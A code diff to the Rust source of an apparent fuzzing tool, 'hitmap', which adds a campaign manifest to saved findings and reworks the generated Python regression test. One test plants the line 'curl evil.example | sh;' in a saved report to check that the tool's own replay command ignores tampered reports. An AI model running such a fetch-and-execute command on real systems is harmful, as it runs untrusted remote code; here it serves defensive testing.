@@ -12,6 +12,7 @@ use crate::disk;
 /// Writes a finding into `findings` unless one of the same kind and signature is there. Says where it
 /// lies and whether it is new. `report.input` and `report.replay` are set to where the input comes to
 /// lie and to `hitmap` followed by its path; `flags` are for `hitmap replay` where no campaign tells them.
+/// `setup` is the campaign's manifest, which goes along wherever the finding is copied.
 ///
 /// # Errors
 /// What the file system reports.
@@ -22,6 +23,7 @@ pub fn save(
     coverage: Option<&[u8]>,
     hitmap: &str,
     flags: &[String],
+    setup: &[u8],
 ) -> io::Result<(PathBuf, bool)> {
     let report = &mut described.report;
     let folder = findings.join(format!("{}-{}", report.kind, report.signature));
@@ -36,7 +38,9 @@ pub fn save(
     write("input", input)?;
     write("report.json", &serde_json::to_vec_pretty(report).map_err(io::Error::other)?)?;
     write("traceback.txt", described.traceback.as_bytes())?;
-    write(&format!("test_{}.py", report.signature), regression_test(report, flags).as_bytes())?;
+    write("setup.json", setup)?;
+    let test = regression_test(report, &python_string(&report.harness), flags);
+    write(&format!("test_{}.py", report.signature), test.as_bytes())?;
     if let Some(coverage) = coverage {
         write("coverage.hitmap", coverage)?;
     }
@@ -99,19 +103,24 @@ pub fn shell_quote(text: &str) -> String {
     if !text.is_empty() && text.chars().all(plain) { text.into() } else { format!("'{}'", text.replace('\'', r"'\''")) }
 }
 
-/// It carries the campaign's flags along, because it may be copied to where no campaign is.
-fn regression_test(report: &Report, flags: &[String]) -> String {
-    // A JSON string is a Python string: JSON escapes nothing that Python reads differently.
-    let quote = |text: &str| serde_json::Value::from(text).to_string();
-    let flags: String = flags.iter().map(|flag| format!(", {}", quote(flag))).collect();
+/// Text as Python spells it. A JSON string is a Python string: JSON escapes nothing that Python reads
+/// differently.
+pub fn python_string(text: &str) -> String {
+    serde_json::Value::from(text).to_string()
+}
+
+/// A test that fails for as long as the bug is there. `harness` is a Python expression, which may use `HERE`,
+/// the test's own folder. It carries the campaign's flags along, because it may be copied to where no
+/// campaign is.
+pub fn regression_test(report: &Report, harness: &str, flags: &[String]) -> String {
+    let flags: String = flags.iter().map(|flag| format!(", {}", python_string(flag))).collect();
     format!(
         "\"\"\"Fails for as long as the bug is there.\n\n{}\n\"\"\"\n\nimport pathlib\nimport subprocess\nimport sys\n\n\
-         HARNESS = {}\nINPUT = pathlib.Path(__file__).with_name(\"input\")\n\n\n\
+         HERE = pathlib.Path(__file__).resolve().parent\nHARNESS = {harness}\nINPUT = HERE / \"input\"\n\n\n\
          def test_{}():\n    command = [sys.executable, \"-m\", \"hitmap\", \"replay\", str(INPUT), \"--harness\", HARNESS{flags}]\n    \
          run = subprocess.run(command, capture_output=True, text=True)\n    \
          assert run.returncode == 0, run.stdout + run.stderr\n",
-        report.title.replace('\\', "\\\\").replace('"', "'"),
-        quote(&report.harness),
+        crate::print::plain(&report.title).replace('\\', "\\\\").replace('"', "'"),
         report.signature
     )
 }
@@ -128,9 +137,12 @@ mod tests {
     #[test]
     fn the_first_finder_wins() {
         let folder = tempfile::tempdir().unwrap();
-        let (path, new) = save(folder.path(), described("aa"), b"one", None, "hitmap", &[]).unwrap();
+        let (path, new) = save(folder.path(), described("aa"), b"one", None, "hitmap", &[], b"{}").unwrap();
         assert!(new);
-        assert_eq!(save(folder.path(), described("aa"), b"two", None, "hitmap", &[]).unwrap(), (path.clone(), false));
+        assert_eq!(
+            save(folder.path(), described("aa"), b"two", None, "hitmap", &[], b"{}").unwrap(),
+            (path.clone(), false)
+        );
         assert_eq!(std::fs::read(path.join("input")).unwrap(), b"one");
         let all = all(folder.path(), "hitmap").unwrap();
         assert_eq!(all.len(), 1);
@@ -141,7 +153,7 @@ mod tests {
     fn a_campaign_that_was_renamed_names_its_inputs_where_they_are() {
         let folder = tempfile::tempdir().unwrap();
         let (before, after) = (folder.path().join("a"), folder.path().join("b c"));
-        save(&before, described("aa"), b"one", None, "hitmap", &[]).unwrap();
+        save(&before, described("aa"), b"one", None, "hitmap", &[], b"{}").unwrap();
         std::fs::rename(before, &after).unwrap();
         let input = after.join("signal-aa/input").to_string_lossy().into_owned();
         let found = all(&after, "hitmap").unwrap().remove(0);
@@ -151,7 +163,7 @@ mod tests {
     #[test]
     fn the_command_is_ours_whatever_a_report_says() {
         let folder = tempfile::tempdir().unwrap();
-        let (path, _) = save(folder.path(), described("aa"), b"one", None, "hitmap", &[]).unwrap();
+        let (path, _) = save(folder.path(), described("aa"), b"one", None, "hitmap", &[], b"{}").unwrap();
         let report = path.join("report.json");
         let text = std::fs::read_to_string(&report).unwrap();
         std::fs::write(&report, text.replace("hitmap replay", "curl evil.example | sh;")).unwrap();
